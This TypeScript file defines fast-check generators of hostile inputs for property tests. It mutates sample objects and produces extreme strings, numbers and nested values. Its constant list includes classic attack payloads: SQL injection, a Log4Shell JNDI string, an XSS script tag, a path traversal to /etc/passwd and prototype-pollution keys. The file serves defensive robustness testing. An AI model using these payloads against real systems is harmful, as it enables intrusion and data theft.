import fc from "fast-check";

const MEGABYTE = 1_048_576;

function nested(depth: number): unknown {
  let value: unknown = "inside";
  for (let level = 0; level < depth; level += 1) value = level % 2 === 0 ? [value] : { level: value };
  return value;
}

const hostileText = fc.oneof(
  fc.string({ unit: "binary", maxLength: 60 }),
  fc.constantFrom(
    "",
    " ",
    "\0",
    "a\0b",
    "\u202Egnp.exe",
    "\uD800",
    "\uFEFF",
    "Z\u0301".repeat(500),
    "👩‍👩‍👧‍👧".repeat(200),
    "'; drop table recommendations; --",
    "${jndi:ldap://example.org/a}",
    "<script>alert(1)</script>",
    "%00%0d%0a",
    "../../etc/passwd",
    "CHIP-1",
    "CHIP-99999999",
    "CHIP-0",
    "chip-1",
    "NIST",
    "nist-officer",
    "0001-01-01",
    "9999-12-31",
    "2026-02-29",
    "2026-13-01",
    "+275760-09-13",
    "true",
    "__proto__",
    "constructor",
  ),
  fc.constantFrom(5000, 20_000, 300_000, MEGABYTE).map((length) => "x".repeat(length)),
);

const hostileNumber = fc.oneof(
  fc.constantFrom(0, -0, -1, 1.5, 1e308, 2 ** 31, 2 ** 31 - 1, 2 ** 53, 2 ** 63, -(2 ** 31), 1e-7),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 5, arbitrary: hostileText },
  { weight: 2, arbitrary: hostileNumber },
  { weight: 1, arbitrary: fc.constantFrom(null, true, false, [], {}, [[]], { "": {} }) },
  { weight: 1, arbitrary: fc.constantFrom(20, 40, 1000).map(nested) },
  { weight: 1, arbitrary: fc.array(hostileText, { maxLength: 300 }) },
  { weight: 1, arbitrary: fc.dictionary(hostileText, hostileNumber, { maxKeys: 20 }) },
);

/** Inputs near the one that is understood, with some of its parts exchanged, added or left out; or far from it. */
export function hostileInputs(sample: unknown): fc.Arbitrary<unknown> {
  if (typeof sample !== "object" || sample === null) return hostileValue;
  const places = pathsOf(sample);
  const nearby = fc
    .array(fc.tuple(fc.constantFrom(...places), fc.option(hostileValue, { nil: undefined })), {
      minLength: 0,
      maxLength: 3,
    })
    .map((edits) => edits.reduce<unknown>((value, [path, put]) => withPart(value, path, put), sample));
  return fc.oneof({ weight: 5, arbitrary: nearby }, { weight: 1, arbitrary: hostileValue });
}

type Path = readonly string[];

function pathsOf(value: unknown, above: Path = []): readonly Path[] {
  if (typeof value !== "object" || value === null) return [above];
  const inside = Object.entries(value).flatMap(([key, part]) => pathsOf(part, [...above, key]));
  return [...(above.length === 0 ? [["surplus"]] : [above]), ...inside];
}

/** The value with the part at the path exchanged, or left out when `put` is undefined. */
function withPart(value: unknown, path: Path, put: unknown): unknown {
  const [first, ...rest] = path;
  if (first === undefined) return put;
  if (typeof value !== "object" || value === null) return value;
  const entries = new Map<string, unknown>(Object.entries(value));
  const part = withPart(entries.get(first), rest, put);
  if (part === undefined) entries.delete(first);
  else entries.set(first, part);
  return Array.isArray(value) ? [...entries.values()] : Object.fromEntries(entries);
}
